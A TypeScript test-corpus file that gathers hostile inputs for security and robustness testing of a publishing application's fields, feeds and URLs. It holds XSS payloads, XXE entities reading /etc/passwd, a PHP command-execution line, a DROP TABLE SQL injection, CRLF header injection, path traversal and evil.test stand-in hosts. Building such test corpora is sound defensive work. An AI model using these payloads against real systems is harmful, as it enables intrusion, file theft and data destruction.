import { BIDI } from './bidi-corpus.ts'
import { LINKS } from './link-corpus.ts'
import { into, LINES, PROSE, WORDS } from './places.ts'
import { ASKED } from './request-corpus.ts'

const MARKUP = into([...WORDS, 'slug', 'topic', 'kind'], {
  'a script': '<script>alert(1)</script>',
  'a script from elsewhere in capitals': '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  'the end of a style': '</style><script>alert(1)</script>',
  'the end of a title': '</title><script>alert(1)</script>',
  'the end of a script': '</script><script>alert(1)</script>',
  'the beginning of a comment and a script': '<!--<script>',
  'both ends of a comment': '--> --!> <!-- x --> <!-->',
  'a picture that fails': '<img src=x onerror=alert(1)>',
  'a drawing that loads': '<svg/onload=alert(1)>',
  'a drawing with a script': '<svg><script>alert&#40;1&#41;</script></svg>',
  'a frame with a document': '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  'an object': '<object data="data:text/html,<script>alert(1)</script>"></object>',
  'another base': '<base href="https://evil.test/">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'a form': '<form action="https://evil.test"><button formaction=javascript:alert(1)>x</form>',
  'a mutation by mathematics':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'a mutation without scripts': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'plain text to the end': '<plaintext>',
  'the end of a text field': '</textarea></select></option><img src=x onerror=alert(1)>',
  'a tag that is not closed': '<img src=x onerror=alert(1)//',
  'slashes for spaces': '<a/href="javascript:alert(1)"/onclick=alert(1)>x</a>',
  'the end of the document': '</main></body></html><script>alert(1)</script>',
  'a document type': '<!DOCTYPE html><html onload=alert(1)>',
  'a letter that is an S in capitals': '<\u017Fcript>alert(1)</\u017Fcript>',
  'a less-than sign with a mark': '<\u0338script>\u0338alert(1)',
  'a polyglot':
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
})

const QUOTED = into([...WORDS, 'slug', 'topic'], {
  'the end of an attribute': '" onmouseover="alert(1)',
  'the end of an attribute in single quotes': "' onfocus='alert(1)' autofocus='",
  'the end of a tag': '"><img src=x onerror=alert(1)>',
  'backticks for quotes': '`onerror=alert(1)`',
  'no quotes at all': 'x onclick=alert(1)',
  'a style': 'x" style="background:url(//evil.test/x)',
  'an attribute that refreshes': '" http-equiv="refresh" content="0;url=javascript:alert(1)',
  'a link to a style': '"/><link rel="stylesheet" href="//evil.test/x.css">',
  'many quotes': `${'"'.repeat(90)}${"'".repeat(90)}`,
  'many ampersands': '&'.repeat(180),
  'a template': "{{constructor.constructor('alert(1)')()}} #{7*7} <%= 7*7 %> $" + '{alert(1)}',
  'a replacement': "$& $1 $` $' $$ $<name>",
  'escapes of JavaScript': '\\x3cscript\\x3e \\u003cscript\\u003e \\" \\\\" \\n',
  'the end of a JSON text': '"}],"publisher":{"name":"Evil"}}//',
  'a dictionary’s prototype': '__proto__',
  'a property that every object has': 'constructor',
  'the seven-bit signs of UTF-7': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  'wide signs': '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  'a statement of SQL': "'); DROP TABLE releases; --",
  'a search expression': '"unbalanced* NEAR( AND OR NOT ^headline:x',
})

const ENTITIES = into([...WORDS, 'q'], {
  'a script in entities': '&lt;script&gt;alert(1)&lt;/script&gt;',
  'a script in numbers': '&#60;script&#62;alert(1)&#60;/script&#62;',
  'a script in hexadecimal': '&#x3c;script&#x3E;alert(1)&#x3c;/script&#x3E;',
  'entities twice': '&amp;lt;b&amp;gt; &amp;amp;amp;',
  'entities without an end': '&lt &copy &notit; &AMP &amp',
  'numbers that are no characters': '&#0; &#x0; &#xD800; &#x110000; &#xFFFFFFFFF; &#-1;',
  'numbers of control characters': 'a &#1; &#12; &#x1F; &#128; &#x9F; &#xFFFE; z',
  'names of signs': '&quot; &apos; &NewLine; &Tab; &colon; &lpar; &grave; &nbsp;',
  'an entity that nobody declared': '&xxe; &lol9; %pe;',
})

const XML = into([...WORDS, 'slug', 'topic'], {
  'the end of CDATA': ']]>',
  'the end of CDATA and a script':
    ']]><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script><![CDATA[',
  CDATA: '<![CDATA[<b>x</b>]]>',
  'instructions to a processor': '<?xml version="1.0"?><?xml-stylesheet href="//evil.test"?>',
  'an instruction of PHP': '<?php system($_GET[0]); ?>',
  'an external entity': '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;',
  'a parameter entity': '<!ENTITY % pe SYSTEM "http://evil.test/x.dtd"> %pe;',
  'the end of a feed': '</title></entry></feed><script/>',
  'the end of a channel': '</title></item></channel></rss>',
  'the end of a sitemap': '</news:title></news:news></url></urlset>',
  'a base for a feed': '" xml:base="javascript:" xmlns:x="http://evil.test',
  'two hyphens in a comment': '<!-- -- --->',
})

const CHARACTERS = into([...WORDS, 'slug', 'topic', 'kind', 'q'], {
  NUL: 'a\0b',
  'NUL in a tag': '<scr\0ipt>alert(1)</scr\0ipt>',
  'control characters': 'a\x01\x02\x03\x04\x05\x06\x07\b\x0E\x0F\x1Fb',
  'a tab of a page and a form feed': 'a\x0Bb\x0Cc',
  'an escape sequence': '\x1B[2J\x1B]0;title\x07',
  'what a terminal deletes, and C1': 'a\x7F\x80\x9Fb',
  'a next line': 'a\x85b',
  'separators of information': 'a\x1C\x1D\x1Eb',
  'an unpaired first half': 'a\uD800b',
  'an unpaired second half': 'a\uDC00b',
  'halves in the wrong order': 'a\uDC00\uD800b',
  'half a character at the end': 'a\uD83D',
  'half a character in a tag': '<script\uD800>alert(1)</script\uD800>',
  noncharacters: 'a\uFFFE\uFFFFb',
})

const UNUSUAL = into([...WORDS, 'slug', 'topic', 'q'], {
  'noncharacters of other planes': 'a\u{1FFFE}\u{10FFFF}\uFDD0b',
  'a byte order mark': '\uFEFFa\uFEFFb\uFEFF',
  'what replaces a character': '\uFFFD\uFFFD',
  'what nobody sees': 'a\u00AD\u200B\u200C\u200D\u2060\uFEFFb',
  'tags in letters': `a${[...'<script>'].map((one) => String.fromCodePoint(0xe0000 + one.charCodeAt(0))).join('')}b`,
  'annotations between lines': '\uFFF9a\uFFFA<b>\uFFFBc',
  'marks without end': `Z${'\u0300\u0316\u0334'.repeat(40)}x`,
  'marks without a letter': '\u0301\u0308 x',
  'private characters': '\uE000\u{F0000}\u{10FFFD}',
  'an emoji of many': '👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇸🇾',
  'letters that look like nothing': '\u3164\u115F\u2800x',
  'deprecated shaping': 'a\u206A\u206B\u206C\u206D\u206E\u206Fb',
  'a ligature of four words': '\uFDFA \uFDFD',
  'letters that change with their case': 'İ ı ß ẞ ŉ ǰ ΐ ﬃ K Å',
})

const LINE_ENDS = into([...LINES, 'slug', 'topic', 'kind'], {
  'a header': 'x\r\nSet-Cookie: hostile=1',
  'a body after the headers': 'x\r\n\r\n<script>alert(1)</script>',
  'an end of line': 'a\nb',
  'separators of lines and paragraphs': 'a\u2028b\u2029c',
  'tabs within': 'a\tb',
})

const LENGTHS = [
  ...into(['headline', 'subheadline', 'summary', 'department', 'place', 'note', 'reason'], {
    'ten thousand letters': 'a'.repeat(10_000),
  }),
  ...into(PROSE, {
    'a hundred thousand letters and one': 'a'.repeat(100_001),
    'ten thousand brackets': '['.repeat(10_000),
    'ten thousand stars': '*a_'.repeat(3000),
    'a thousand quotes within each other': `${'>'.repeat(1000)} x`,
  }),
]

const NAMES = into(['slug', 'topic'], {
  'a way up': '../../etc/passwd',
  'a part of a path': 'a/b',
  'an encoded slash': 'a%2Fb',
  'an encoded end of line': 'a%0D%0ALocation:%20//evil.test',
  'another scheme': 'javascript:alert(1)',
  'another host': '//evil.test',
  'a query and a fragment': 'a?b#c',
  'a tag of a cache and another': 'a,everything',
  'an ending': 'budget.json',
  'only dots': '..',
  'a neighbour': 'previous',
  'a file of feeds': 'feed.xml',
  'a property that every object has, as a name': 'constructor',
  'what every object can do': 'hasownproperty',
  'a language': 'ar',
  'letters of Cyrillic that look Latin': 'аdmin-раураl',
  'letters of Arabic': 'موازنة-السنة',
  'letters that are joined': '\uFDFA',
  capitals: 'BUDGET',
  'a capital with a dot': 'İstanbul',
  'letters of mathematics': '𝒶𝓁𝑒𝓇𝓉',
  'a letter that nobody sees': '\u3164',
  'bytes beyond what is allowed': '京'.repeat(41),
})

const SHAPES = into(['fields'], {
  'a field with a name of markup': '<script>alert(1)</script>',
  'a field with a name of half a character': 'a\uD800',
  'a field with a name that ends a line': 'a\r\nSet-Cookie: x=1',
  'a field that turns its line': '\u202Eenildaeh',
  'the prototype as a field': '__proto__',
  'the constructor as a field': 'constructor',
  'a pointer as a field': '~0/~1/a/~',
})

/** What somebody may try, with the places into which it goes. */
export const CORPUS = [
  ...MARKUP,
  ...QUOTED,
  ...ENTITIES,
  ...XML,
  ...CHARACTERS,
  ...UNUSUAL,
  ...LINE_ENDS,
  ...LENGTHS,
  ...NAMES,
  ...SHAPES,
  ...LINKS,
  ...BIDI,
  ...ASKED,
]
